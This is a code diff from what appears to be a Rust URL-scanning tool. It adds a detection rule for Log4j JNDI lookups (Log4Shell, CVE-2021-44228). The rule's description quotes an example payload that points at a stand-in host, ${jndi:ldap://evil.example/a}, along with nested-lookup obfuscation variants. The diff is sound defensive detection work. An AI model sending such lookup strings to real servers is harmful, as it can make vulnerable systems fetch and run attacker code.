@@ -143,6 +143,8 @@ pub(crate) enum Signal {
     /// look-alike from a famous name, or holding a brand's token
     /// ([`crate::sites::may_imitate`]).
     Imitation,
+    /// A `${`: a lookup of a template or logging library (Log4j).
+    Lookup,
 }
 
 impl Signal {
@@ -171,6 +173,7 @@ impl Signal {
             | Signal::SharedHost
             | Signal::Imitation
             | Signal::PlantedPage
+            | Signal::Lookup
             | Signal::BrandInPath => false,
         }
     }
@@ -473,6 +476,13 @@ catalogue! {
         summary: "The path or a parameter names a system, credential or log file that file-inclusion probes go after.",
         consequence: None,
         signals: [Percent, NonAscii, FileName, Base64],
+    }
+    JndiLookup {
+        code: "jndi-lookup",
+        severity: High,
+        summary: "A Log4j lookup of a JNDI name (${jndi:ldap://evil.example/a}, its letters also when nested lookups spell them: ${${lower:j}ndi:...}, ${${::-j}...}): a server running Log4j 2 before 2.15 that logs the URL asks the named directory for a Java object and may run the code it is sent (CVE-2021-44228, Log4Shell).",
+        consequence: None,
+        signals: [Lookup, Percent],
     }
     OverlongUtf8 {
         code: "overlong-utf8",
